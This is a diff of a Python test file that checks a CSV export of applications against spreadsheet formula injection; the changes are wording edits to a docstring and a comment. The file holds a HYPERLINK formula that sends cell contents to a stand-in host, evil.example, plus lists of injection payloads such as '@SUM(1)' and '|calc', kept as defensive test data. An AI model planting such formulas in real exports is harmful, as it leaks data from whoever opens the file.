@@ -1,4 +1,4 @@
-"""Applications as a table: masked, complete, and harmless to whoever opens it."""
+"""Applications as a table: masked, complete, and safe to open."""
 
 import csv
 import io
@@ -16,7 +16,7 @@ from tests.support.forms import AGENT, READ, decided, pending, until
 
 RAHIM = Agent(id=AGENT, name="Rahim", role=Role.AGENT, language="en", team="Khulna")
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-#: Formulas behind what another spreadsheet takes for the end of a cell.
+#: Formulas after something that another spreadsheet reads as the end of a cell.
 BURIED = ("x;=1+1", "x\t=1", "x\n@SUM(1)", "x; ＝1", "x\r-2+3")
 INJECTIONS = (FORMULA, "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", " =1", "＝1+1", "|calc", "%x")
 
